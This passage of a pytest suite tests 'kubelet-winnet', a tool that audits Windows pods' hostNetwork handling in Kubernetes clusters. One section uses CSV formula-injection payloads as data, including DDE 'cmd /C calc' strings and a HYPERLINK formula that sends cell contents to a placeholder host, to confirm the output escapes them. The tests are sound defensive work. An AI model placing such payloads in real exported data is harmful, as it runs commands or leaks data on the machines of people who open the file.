    assert f"<b>{len(records)}</b>Windows pods" in out
    for record in records.values():
        says = bool(record["active"]) or record["hostNetworkEffect"] in (
            "ignored", "refused", "unknown", "not-modelled")
        assert (f"<b>{record['name']}</b>" in out) == says, record["name"]
    status, out, err = audit(["--kubeconfig", str(kubeconfig), "--context", "cut",
                              "-o", "html"], capsys)
    assert status == 2
    line = err.splitlines()[-1].removeprefix("kubelet-winnet: error: ")
    # What was read is drawn, marked incomplete.
    assert "Incomplete: the cluster could not be read: " + html.escape(line[:40]) in out


@pytest.mark.parametrize(
    ("context", "needles", "kind"),
    [
        ("secret", ["forbidden (403)", "may not list pods", 'namespace "secret"',
                    'cannot list resource "pods"'], "forbidden"),
        ("no-nodes", ["forbidden (403)", "may not list nodes", "cluster-scoped"], "forbidden"),
        ("bad-token", ["401 Unauthorized", "credentials"], "unauthorized"),
        ("broken", ["HTTP 500", "etcdserver: request timed out"], "server"),
        ("cut", ["closed the connection before the whole response arrived"], "malformed"),
        ("cutjson", ["a body cut short"], "malformed"),
        ("notlist", ["a list whose items are not objects"], "malformed"),
        ("closed", ["cannot reach the API server at http://127.0.0.1:9"], "unreachable"),
    ],
)
def test_live_failures_are_one_typed_line(
    kubeconfig: Path, context: str, needles: list[str], kind: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    status, out, err = audit(["--kubeconfig", str(kubeconfig), "--context", context,
                              "-o", "json"], capsys)
    assert status == 2
    assert len(err.splitlines()) == 1, err
    assert "Traceback" not in err
    # stdout stays one valid JSON document, marked incomplete.
    assert json.loads(out)["summary"]["error"] in err
    for needle in needles:
        assert needle in err, err
    from kubelet_winnet.errors import ClusterAccessError, WinnetError
    from kubelet_winnet.sources.cluster.source import LiveCluster

    with pytest.raises(ClusterAccessError) as caught:
        list(LiveCluster(str(kubeconfig), context).objects())
    assert isinstance(caught.value, WinnetError) and isinstance(caught.value, OSError)
    assert caught.value.kind == kind
    if kind == "forbidden":
        assert caught.value.permission == ("list nodes" if context == "no-nodes"
                                           else "list pods")
        assert caught.value.status == 403


def test_expired_continue_token_is_a_typed_error(
    api_server: FakeApiServer, kubeconfig: Path
) -> None:
    from kubelet_winnet.errors import ClusterAccessError
    from kubelet_winnet.sources.cluster.source import LiveCluster

    live = LiveCluster(str(kubeconfig), "good", all_namespaces=True, page_size=4)
    objects = live.objects()
    next(objects)
    api_server.tokens.clear()  # the server forgets its tokens: 410 Gone on the next page
    with pytest.raises(ClusterAccessError, match="410 Gone") as caught:
        list(objects)
    assert caught.value.status == 410


@pytest.mark.parametrize(
    ("content", "needle"),
    [
        (None, "does not exist"),
        ("{not: [yaml", "cannot use"),
        ("apiVersion: v1\nkind: Config\ncontexts: []\n", "cannot use"),
    ],
)
def test_bad_kubeconfig_is_one_line(
    tmp_path: Path, content: str | None, needle: str, capsys: pytest.CaptureFixture[str]
) -> None:
    require("kubernetes")
    path = tmp_path / "kubeconfig"
    if content is not None:
        path.write_text(content, encoding="utf-8")
    status, _, err = audit(["--kubeconfig", str(path)], capsys)
    assert status == 2
    assert len(err.splitlines()) == 1 and needle in err and "Traceback" not in err, err


def test_fail_on_never_reports_only_as_check_does(
    dump: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, _ = audit(["-f", str(dump), "-o", "json"], capsys)
    records = json.loads(out)["pods"]
    severities = {f["severity"] for r in records for f in r["findings"]}
    assert "error" in severities  # the recorded cluster holds a refused pod
    status, out_never, err = audit(["-f", str(dump), "-o", "json", "--fail-on", "never"], capsys)
    assert (status, err) == (0, "")
    assert json.loads(out_never) == json.loads(out)  # the same report, only the status differs
    with pytest.raises(SystemExit):
        main(["audit", "--help"])
    assert "never: report only" in " ".join(capsys.readouterr().out.split())


@pytest.mark.parametrize("output", ["text", "csv"])
def test_nothing_read_is_one_error_line_and_no_table(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], output: str
) -> None:
    missing = tmp_path / "missing.json"
    status, out, err = audit(["-f", str(missing), "-o", output], capsys)
    assert status == 2
    assert err == f"kubelet-winnet: error: {missing}: cannot read: No such file or directory\n"
    assert out == ""


def test_some_input_read_keeps_the_table(
    dump: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "missing.json"
    status, out, err = audit(["-f", str(dump), "-f", str(missing)], capsys)
    assert status == 2
    assert err == f"kubelet-winnet: error: {missing}: cannot read: No such file or directory\n"
    assert re.search(rf"^TOTAL: {len(expected_records())} pods,", out, re.M)


def test_the_table_and_docs_call_a_silenced_finding_ignored_as_check_does(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.strategies import REPO_ROOT

    quiet = [p for p in PODS if p["metadata"]["name"] == "web-win-130"]
    quiet = json.loads(json.dumps(quiet))
    quiet[0]["metadata"].setdefault("annotations", {})[
        "ignore-check.kubelet-winnet.io/host-network-ignored"] = "known"
    path = write_dump(tmp_path / "d.json", NODES + quiet)
    status, out, _ = audit(["-f", str(path)], capsys)
    assert status == 0  # the one finding is ignored by its annotation
    (row,) = [line for line in out.splitlines() if line.startswith("web-win-130 ")]
    assert row.split()[-1] == "host-network-ignored(ignored)"
    assert ("FINDINGS (ignored): turned off for the object by an "
            "ignore-check.kubelet-winnet.io annotation") in out
    assert "1 ignored by annotation" in out  # check's words for the same count
    docs = (REPO_ROOT / "docs" / "audit.md").read_text(encoding="utf-8")
    assert "`(ignored)` when an annotation silences one" in docs
    assert "(silenced)" not in out + docs


def test_a_field_newer_than_the_pinned_lists_is_no_finding_of_a_served_pod(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A pod the API server returns had every key decoded by it: a key the pinned field
    lists lack is a field of a newer release, so audit does not call it unknown (check
    of the same pod as a manifest does)."""
    served = pod("apps", "newer", "win-138")
    served["spec"]["someFieldOf139"] = True
    served["spec"]["containers"][0]["anotherNewField"] = {}
    path = write_dump(tmp_path / "d.json", [*NODES, served])
    status, out, _ = audit(["-f", str(path), "-o", "json"], capsys)
    assert status == 0
    records = {r["name"]: r for r in json.loads(out)["pods"]}
    assert records["newer"]["findings"] == []
    manifest = tmp_path / "newer.json"
    manifest.write_text(json.dumps(served), encoding="utf-8")
    assert main(["check", str(manifest), "--assume-windows", "-o", "json"]) == 1
    found = json.loads(capsys.readouterr().out)["findings"]
    assert [f["rule"] for f in found] == ["unknown-field", "unknown-field"]


# --- a docker node: one true thing per row ---------------------------------------------------

DOCKER_NOTE = (
    "docker: the kubelet has had no dockershim since 1.24, so it reaches Docker through "
    "cri-dockerd, whose handling of a Windows pod's hostNetwork is not modelled"
)


def test_a_docker_node_row_says_unknown_and_why_never_ignored(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """dockershim left the kubelet in 1.24 (KEP-2221): a node reporting docker:// runs
    cri-dockerd, which the library does not model, so hostNetwork's effect is unknown and
    no finding may call it ignored, in any output form."""
    path = tmp_path / "dump.json"
    path.write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": [
        node("win-docker", "windows", "v1.32.1", "docker://25.0.3"),
        pod("apps", "web", "win-docker", host_network=True, selector="windows"),
        pod("apps", "plain", "win-docker", selector="windows"),
    ]}), encoding="utf-8")
    status, out, err = audit(["-f", str(path), "-o", "json"], capsys)
    assert status == 0, err  # the only warning of the row is gone
    records = {r["name"]: r for r in json.loads(out)["pods"]}
    web = records["web"]
    assert (web["hostNetworkEffect"], web["findings"], web["note"]) == (
        "unknown", [], DOCKER_NOTE)
    assert records["plain"]["note"] is None  # no hostNetwork asked: nothing to explain
    status, out, _ = audit(["-f", str(path), "-o", "csv"], capsys)
    rows = {r["pod"]: r for r in csv.DictReader(io.StringIO(out))}
    assert (rows["web"]["hostNetworkEffect"], rows["web"]["findings"], rows["web"]["note"]) == (
        "unknown", "", DOCKER_NOTE)
    status, out, _ = audit(["-f", str(path)], capsys)
    (row,) = [line for line in out.splitlines() if line.startswith("web ")]
    assert row.split()[-2:] == ["unknown", "-"]
    assert "ignored" not in row.lower()
    assert f"  note: web: {DOCKER_NOTE}" in out.splitlines()


# --- CSV cells a spreadsheet would run ------------------------------------------------------

# OWASP, "CSV Injection": a cell starting with one of these is read as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_that_would_start_a_formula_get_a_single_quote(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A node reports its own kubeletVersion and names in a dump are free text."""
    payload = "=cmd|' /C calc'!A0"
    evil = node("+n1", "windows", payload, "@SUM(1+1)*cmd|' /C calc'!A0")
    manifest = pod("-ns", "=HYPERLINK(\"http://x/\"&A1)", "+n1", host_network=True)
    path = write_dump(tmp_path / "evil.json", [evil, manifest])
    _, out, _ = audit(["-f", str(path), "-o", "csv"], capsys)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 1
    row = rows[0]
    assert row["namespace"] == "'-ns"
    assert row["pod"] == "'=HYPERLINK(\"http://x/\"&A1)"
    assert row["node"] == "'+n1"
    assert row["kubeletVersion"] == "'" + payload
    assert row["runtime"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for line in out.splitlines():  # every cell quoted: a separator never starts a cell
        assert line.startswith('"') and line.endswith('"')


def _audit_record(cells: list[str]) -> Any:
    from kubelet_winnet._lint.audit_records import PodAudit

    return PodAudit(
        namespace=cells[0], name=cells[1], node=cells[2], kubelet_version=cells[3],
        kubelet_source=cells[4], runtime=cells[5], host_network=False, network=cells[6],
        host_process=False, refused=cells[7], effect="not-requested", note=cells[8],
        findings=(), where="x",
    )


# Indexes of the free-text fields above in the CSV row (_CSV_HEADER's order).
_FREE_CELLS = (0, 1, 2, 3, 4, 5, 7, 9, 13)


_CELL_TEXT = st.tuples(st.sampled_from(("", "", *FORMULA_START)), st.text(max_size=12)).map(
    "".join
)


@given(st.lists(_CELL_TEXT, min_size=9, max_size=9))
def test_csv_no_parsed_cell_starts_a_formula_and_other_cells_round_trip(
    cells: list[str],
) -> None:
    from kubelet_winnet.cli.output.audit_report import _CsvWriter

    out = io.StringIO()
    writer = _CsvWriter(out)
    writer.add(_audit_record(cells))
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(row) == len(header)
    for parsed in row:
        assert not parsed.startswith(FORMULA_START), row
    for index, text in zip(_FREE_CELLS, cells, strict=True):
        if not text.isprintable():
            continue  # the shared escaping rule rewrites it; the property above holds
        if text.startswith(FORMULA_START):
            assert row[index] == "'" + text
        elif index not in (6, 9) or text:  # network and refused: "" when absent
            assert row[index] == text


@pytest.mark.parametrize("text", ["a,=1+2", 'x";=1+2', "x;@SUM(A1)", "x\t=1"])
def test_csv_separator_then_formula_stays_inside_one_quoted_cell(text: str) -> None:
    """OWASP: a separator or quote in a value must not open a new cell that starts with
    a formula character; every cell is quoted and its quotes doubled."""
    from kubelet_winnet.cli.output.audit_report import _CsvWriter

    out = io.StringIO()
    _CsvWriter(out).add(_audit_record([text] * 9))
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(row) == len(header)
    assert not any(cell.startswith(FORMULA_START) for cell in row)
    line = out.getvalue().splitlines()[1]
    assert line.count('"') % 2 == 0 and line.startswith('"')


# --- a server that accepts and never answers ------------------------------------------------


class SilentServer:
    """Accepts every connection on 127.0.0.1 and never sends a byte."""

    def __init__(self) -> None:
        import socket

        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.accepted: list[Any] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.sock.accept()
            except OSError:  # closed
                return
            self.accepted.append(connection)

    def close(self) -> None:
        self.sock.close()
        for connection in self.accepted:
            connection.close()


def test_request_timeout_against_a_silent_server_exits_2_without_aborting(
    tmp_path: Path,
) -> None:
    """Every run printed the right error and then died with status 134 ("Fatal Python
    error: Aborted"): the thread reading the response was still blocked at interpreter
    exit. Several runs at once, each its own process, as a user runs it."""
    require("kubernetes")
    server = SilentServer()
    try:
        config = tmp_path / "kubeconfig"
        config.write_text(
            "apiVersion: v1\nkind: Config\ncurrent-context: c\n"
            f"clusters:\n- name: k\n  cluster:\n    server: http://127.0.0.1:{server.port}\n"
            "users:\n- name: u\n  user:\n    token: t\n"
            "contexts:\n- name: c\n  context: {cluster: k, user: u}\n",
            encoding="utf-8",
        )
        runs = [
            subprocess.Popen(
                [sys.executable, "-m", "kubelet_winnet.cli", "audit", "--kubeconfig",
                 str(config), "--request-timeout", "300ms"],
                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            )
            for _ in range(3)
        ]
        for run in runs:
            out, err = run.communicate(timeout=120)
            assert run.returncode == 2, err
            assert out == ""
            assert err == (
                "kubelet-winnet: error: the API server at http://127.0.0.1:"
                f"{server.port} did not send the whole response within --request-timeout "
                "0.3s (listing nodes (cluster-scoped), page 1)\n"
            )
    finally:
        server.close()


# --- the client's own log lines -------------------------------------------------------------


def test_client_log_lines_never_appear_beside_the_one_error_line(tmp_path: Path) -> None:
    """An exec credential plugin that prints garbage made the client log
    ``ERROR:root:exec: failed to decode ...`` (and install a root handler), and a refused
    connection then logged urllib3's retry warning: three lines for one failure. Now the
    one error line carries the client's reason."""
    require("kubernetes")
    import socket

    with socket.create_server(("127.0.0.1", 0)) as probe:  # a port nobody listens on
        port = probe.getsockname()[1]
    config = tmp_path / "kubeconfig"
    config.write_text(json.dumps({
        "apiVersion": "v1", "kind": "Config", "current-context": "c",
        "clusters": [{"name": "k", "cluster": {"server": f"http://127.0.0.1:{port}"}}],
        "users": [{"name": "u", "user": {"exec": {
            "apiVersion": "client.authentication.k8s.io/v1beta1",
            "command": sys.executable,
            "args": ["-c", "import sys; print('{not json'); print('noise', file=sys.stderr)"],
            "interactiveMode": "Never",
        }}}],
        "contexts": [{"name": "c", "context": {"cluster": "k", "user": "u"}}],
    }), encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "kubelet_winnet.cli", "audit", "--kubeconfig", str(config)],
        capture_output=True, text=True, timeout=120, check=False,
    )
    assert done.returncode == 2
    assert done.stdout == ""
    lines = done.stderr.splitlines()
    assert len(lines) == 1, done.stderr
    assert lines[0].startswith(
        f"kubelet-winnet: error: cannot reach the API server at http://127.0.0.1:{port}: "
        "connection refused (listing nodes (cluster-scoped), page 1); the kubernetes client "
        "logged: exec: failed to decode process output: "
    ), lines[0]
    assert "WARNING" not in done.stderr and "ERROR:" not in done.stderr


def test_the_client_loggers_are_restored_after_a_live_audit(
    kubeconfig: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import logging

    root = logging.getLogger()
    before = (root.handlers[:], logging.getLogger("urllib3").propagate,
              logging.getLogger("kubernetes").handlers[:])
    audit(["--kubeconfig", str(kubeconfig), "--context", "closed"], capsys)
    assert (root.handlers, logging.getLogger("urllib3").propagate,
            logging.getLogger("kubernetes").handlers) == before


# --- a pod before its node --------------------------------------------------------------------


def _judged(out: str) -> dict[str, dict[str, Any]]:
    return {r["name"]: r for r in json.loads(out)["pods"]}


def test_a_pod_before_its_node_is_judged_by_that_node(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``[Node n1, Pod on n2, Node n2]``: the pod was judged by the default kubelet with
    "node n2 is not in the input". Its node's kubelet (1.34: no NODE sent) decides."""
    n1 = node("n1", "windows", "v1.30.4", "containerd://1.7.20")
    n2 = node("n2", "windows", "v1.34.1", "containerd://2.1.3")
    items = [n1, pod("web", "early", "n2", host_network=True), n2,
             pod("web", "late", "n2", host_network=True),
             pod("web", "lost", "n3", host_network=True, selector="windows")]
    path = write_dump(tmp_path / "dump.json", items)
    _, out, err = audit(["-f", str(path), "-o", "json"], capsys)
    assert err == ""
    pods = _judged(out)
    for name in ("early", "late"):
        assert pods[name]["kubeletVersion"] == "v1.34.1"
        assert pods[name]["kubeletVersionFrom"] == "node"
        assert pods[name]["runtime"] == "containerd://2.1.3"
        assert pods[name]["note"] is None
        assert pods[name]["sent"] == {"network": None, "hostProcess": False}
    # A node that never comes keeps its wording, judged by --kubelet-version.
    assert pods["lost"]["note"] == "node n3 is not in the input"
    assert pods["lost"]["kubeletVersionFrom"] == "--kubelet-version"
    assert json.loads(out)["summary"]["nodes"] == 2


def test_nodes_in_a_later_file_judge_the_pods_of_an_earlier_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pods_file = write_dump(tmp_path / "pods.json",
                           [node("n1", "windows", "v1.30.4", "containerd://1.7.20"),
                            pod("web", "p", "n2", host_network=True, selector="windows")])
    nodes_file = write_dump(tmp_path / "nodes.json",
                            [node("n2", "linux", "v1.34.1", "containerd://2.1.3")])
    _, out, err = audit(["-f", str(pods_file), "-f", str(nodes_file), "-o", "json"], capsys)
    assert err == ""
    document = json.loads(out)
    assert document["pods"] == []  # its node is a Linux node: not a Windows pod
    assert document["summary"]["skipped"]["linux-node"] == 1


def test_the_bundled_dump_is_judged_with_the_bundled_node_folder(
        capsys: pytest.CaptureFixture[str]) -> None:
    """examples/nodes/akswin-1 holds that node's containerd config.toml (process isolation
    by default) and a flannel file delegating to win-bridge without capabilities: libcni
    passes neither portMappings nor dns (injectRuntimeConfig), so the node's own findings
    say both are dropped, and each pod on akswin-1 is judged by those files."""
    from tests.strategies import REPO_ROOT

    examples = REPO_ROOT / "examples"
    status = main(["audit", "-f", str(examples / "cluster-dump.json"), "--node-config",
                   str(examples / "nodes"), "-o", "json"])
    out, err = capsys.readouterr()
    assert status == 1, err  # the node's warnings, not an input error
    assert "error" not in err
    document = json.loads(out)
    on_akswin_1 = {p["name"]: p["onNode"] for p in document["pods"] if p["node"] == "akswin-1"}
    assert on_akswin_1 and all(v is not None and v["isolation"] == "process"
                               for v in on_akswin_1.values())
    assert on_akswin_1["calico-node-windows-q9d4m"]["network"] == "node"  # HostProcess
    assert on_akswin_1["iis-7d4b9c-2xkqv"]["network"] == "pod"
    listed = document["summary"]["nodeFindings"]["akswin-1"]
    assert sorted(f["rule"] for f in listed) == ["node-dns-dropped", "node-host-port-dropped"]
    assert {Path(f["file"]).name for f in listed} == {"10-flannel.conf"}
